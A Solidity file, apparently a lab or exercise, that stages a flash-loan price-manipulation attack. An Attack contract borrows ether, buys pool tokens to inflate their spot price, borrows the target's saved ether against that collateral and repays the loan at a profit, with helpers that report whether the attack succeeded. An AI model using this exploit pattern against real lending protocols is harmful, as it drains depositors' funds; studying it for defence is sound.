// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IPool {
    function fill() external payable;
    function price() external view returns (uint256);
    function buy() external payable returns (uint256 tokens);
}

interface ITarget {
    function pool() external view returns (IPool);
    function save() external payable;
    function borrow(uint256 tokens, uint256 amount) external;
}

/// @notice An honest saver, whose ether the lender lends.
contract Saver {
    constructor(ITarget target) payable {
        target.save{ value: msg.value }();
    }
}

/// @notice Lends ether to anyone who returns it in the same transaction.
contract FlashBank {
    constructor() payable { }

    receive() external payable { }

    function lend(uint256 amount) external {
        uint256 held = address(this).balance;
        Attack(payable(msg.sender)).onLoan{ value: amount }();
        require(address(this).balance >= held, "not returned");
    }
}

/// @notice A borrower who lifts the price of its own collateral with borrowed ether.
contract Attack {
    ITarget private immutable _target;
    IPool private immutable _pool;
    FlashBank private immutable _bank;

    constructor(address target) payable {
        _target = ITarget(target);
        _pool = _target.pool();
        _pool.fill{ value: 20 ether }();
        new Saver{ value: 30 ether }(_target);
        _bank = new FlashBank{ value: 50 ether }();
    }

    /// @param parameter How much ether the attacker borrows for one transaction.
    function attack(uint256 parameter) external {
        try _bank.lend(parameter) { } catch { }
    }

    /// @dev The bank has lent. All of it goes into the pool, and the tokens become collateral.
    function onLoan() external payable {
        uint256 tokens = _pool.buy{ value: msg.value }();
        uint256 most = tokens * _pool.price() / 1 ether * 3 / 4;
        uint256 held = address(_target).balance;
        _target.borrow(tokens, most < held ? most : held);
        (bool returned,) = address(_bank).call{ value: msg.value }("");
        require(returned, "too little to return");
    }

    receive() external payable { }

    function rows() external view returns (string[] memory names, uint256[] memory amounts) {
        names = new string[](4);
        amounts = new uint256[](4);
        (names[0], amounts[0]) = ("Ether of the savers", address(_target).balance);
        (names[1], amounts[1]) = ("Ether in the pool", address(_pool).balance);
        (names[2], amounts[2]) = ("Ether for one token in the pool", _pool.price());
        (names[3], amounts[3]) = ("Ether the attacker holds", address(this).balance);
    }

    /// @return The attacker, who came with nothing, holds ether after the loan is returned.
    function succeeded() external view returns (bool) {
        return address(this).balance > 0;
    }
}
